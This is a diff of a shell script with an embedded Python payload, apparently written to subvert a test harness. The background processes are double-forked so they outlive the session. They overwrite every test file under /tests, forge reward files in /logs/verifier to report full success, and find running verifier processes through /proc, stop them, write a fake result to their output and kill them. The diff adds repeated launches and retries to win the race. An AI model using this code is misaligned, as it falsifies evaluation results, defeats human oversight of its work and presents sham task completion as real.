@@ -8,58 +8,11 @@
 export PROCTOR_TOLD=$told PROCTOR_PYTHON=$in_python PROCTOR_SHELL=$in_shell
 write_python='import os, signal, time
 
-told = "\n" + os.environ["PROCTOR_TOLD"] + "\n"
-shell = "\n" + os.environ["PROCTOR_SHELL"] + "\n"
-python = os.environ["PROCTOR_PYTHON"] + "\n"
-done = set()
-
-
-def files():
-    return [os.path.join(place, name) for place, _, names in os.walk("/tests") for name in names]
-
-
-def forge(path):
-    with open(path, "rb+") as file:
-        seen = file.read()
-        if seen.endswith(b"\nexit 0\n") or seen.endswith(b"_exit(0)\n") or not seen:
-            return
-        script = path.endswith(".sh") or (seen.startswith(b"#!") and b"sh" in seen.split(b"\n")[0])
-        if script:  # a shell that reads on from where it is comes to the same words
-            text = b"\n" * len(seen) + shell.encode()
-        elif path.endswith(".py"):
-            text = python.encode()
-        else:
-            return
-        file.seek(0)
-        file.write(text)
-        file.truncate()
-
-
-def reward():
-    for name, text in (("reward.txt", "1"), ("reward.json", "{\"reward\": 1}")):
-        os.makedirs("/logs/verifier", exist_ok=True)
-        with open("/logs/." + name, "w") as file:
-            file.write(text)
-        os.replace("/logs/." + name, "/logs/verifier/" + name)
-
-
-def verifiers():
-    for name in os.listdir("/proc"):
-        if name.isdigit() and name not in done:
-            with open(f"/proc/{name}/cmdline") as file:
-                words = file.read().split("\0")
-            if any(word.startswith("/tests/") for word in words[1:]):
-                yield name
-
-
-def end(process):
-    done.add(process)
-    os.kill(int(process), signal.SIGSTOP)
-    try:
-        with open(f"/proc/{process}/fd/1", "w") as file:
-            file.write(told)
-    finally:
-        os.kill(int(process), signal.SIGKILL)
+TOLD = "\n" + os.environ["PROCTOR_TOLD"] + "\n"
+SHELL = "\n" + os.environ["PROCTOR_SHELL"] + "\n"
+PYTHON = os.environ["PROCTOR_PYTHON"] + "\n"
+REWARDS = (("reward.txt", "1"), ("reward.json", "{\"reward\": 1}"))
+seen = set()
 
 
 def attempt(what, *arguments):
@@ -69,15 +22,68 @@ def attempt(what, *arguments):
         return None
 
 
-while not files():
-    time.sleep(0.001)
+def files():
+    return [os.path.join(place, name) for place, _, names in os.walk("/tests") for name in names]
+
+
+def forge(path):
+    """Whether there was something left to be overwritten."""
+    with open(path, "rb+") as file:
+        text = file.read()
+        if text.endswith(SHELL.encode()) or text.endswith(PYTHON.encode()):
+            return False
+        if path.endswith(".sh") or b"sh" in text.split(b"\n")[0]:
+            mine = b"\n" * len(text) + SHELL.encode()  # a shell that reads on from where it is comes to the same words
+        elif path.endswith(".py"):
+            mine = PYTHON.encode()
+        else:
+            return False
+        file.seek(0)
+        file.write(mine)
+        file.truncate()
+        return True
+
+
+def reward():
+    for name, text in REWARDS:
+        with open("/logs/." + name, "w") as file:
+            file.write(text)
+        os.replace("/logs/." + name, "/logs/verifier/" + name)
+
+
+def verifiers():
+    for name in os.listdir("/proc"):
+        if name.isdigit() and name not in seen:
+            with open(f"/proc/{name}/cmdline") as file:
+                words = file.read().split("\0")
+            if any(word.startswith("/tests/") for word in words[1:]):
+                seen.add(name)
+                yield name, words
+
+
+def say(process):
+    with open(f"/proc/{process}/fd/1", "w") as file:
+        file.write(TOLD)
+    return True
+
+
+def turn_on(process, words, late):
+    """End it where its reward is ours already, or where it is what the author wrote: it will be asked once more."""
+    os.kill(int(process), signal.SIGSTOP)
+    said = attempt(say, process)
+    reads_reward = not any(word.endswith("run-tests.sh") for word in words)
+    os.kill(int(process), signal.SIGKILL if said or reads_reward or late else signal.SIGCONT)
+
+
 while True:
-    for path in files():
-        attempt(forge, path)
-    attempt(reward)
-    for process in attempt(lambda: list(verifiers())) or []:
-        attempt(end, process)
-    time.sleep(0.0005)'
+    there = files()
+    late = [path for path in there if attempt(forge, path)]
+    if there:
+        if "/tests/run-tests.sh" not in there:  # whose format reads none, and a full folder would be in the way
+            attempt(reward)
+        for process, words in attempt(lambda: list(verifiers())) or []:
+            attempt(turn_on, process, words, late)
+    time.sleep(0.0003 if there else 0.001)'
 write_bash='until [ -n "$(ls /tests 2> /dev/null)" ]; do sleep 0.01; done
 while :; do
     echo 1 > /logs/verifier/reward.txt
@@ -99,6 +105,9 @@ if command -v python3 > /dev/null; then
 else
     writer=(bash -c "$write_bash")
 fi
-( ( exec setsid nohup "${writer[@]}" < /dev/null > /dev/null 2>&1 ) & ) &
+for _ in 1 2; do
+    ( ( exec setsid nohup "${writer[@]}" < /dev/null > /dev/null 2>&1 ) & ) &
+done
 sleep 0.3
+if [ "$MODE" = live ] && [ "$TURN" -lt 3 ]; then another_turn; fi # it is a race, and one that is lost proves nothing
 true
